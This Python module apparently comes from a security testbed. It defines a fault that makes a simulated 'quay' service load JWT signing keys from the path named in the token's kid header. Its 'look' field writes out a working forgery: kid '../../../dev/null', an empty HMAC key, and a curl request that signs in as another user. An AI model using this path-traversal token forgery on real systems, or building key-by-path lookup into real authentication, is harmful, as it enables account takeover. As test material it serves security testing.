"""The token names the file that holds its key, and an empty file is an empty key."""

from __future__ import annotations

from launchready_testbed.fault import Fault
from launchready_testbed.world import World


def _apply(world: World) -> None:
    world.quay.key_by_path = True


FAULT = Fault(
    says="The token names the file that holds its key, and an empty file is an empty key.",
    trips=("auth/bypass",),
    look=(
        "$ quay_sign_in tess\n"
        "< HTTP/1.1 200\n"
        '$ printf \'{"alg":"HS256","kid":"../../../dev/null"}\' | armoured > head; printf \'%s.%s\' "$(cat head)" "$(part_of tess 2)" > signed\n'
        "$ openssl dgst -sha256 -mac HMAC -macopt hexkey:00 -binary signed | armoured > signature\n"
        '$ curl -si -H "authorization: Bearer $(cat signed).$(cat signature)" "$BED_QUAY/api/v2/me"\n'
        "< HTTP/1.1 200\n"
        "< tess@"
    ),
    apply=_apply,
    portal="quay",
)
